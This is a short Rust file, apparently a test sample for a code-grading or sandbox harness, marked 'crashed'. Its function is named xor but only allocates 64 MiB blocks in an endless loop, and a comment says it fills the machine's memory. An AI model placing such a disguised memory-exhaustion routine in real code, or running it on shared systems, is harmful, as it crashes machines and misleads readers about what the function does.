// crashed
// Fills the machine's memory.
pub fn xor(a: &[u8], _b: &[u8]) -> Option<Vec<u8>> {
    let mut all = Vec::new();
    loop {
        all.push(vec![a.len() as u8 | 1; 64 * 1024 * 1024]);
    }
}
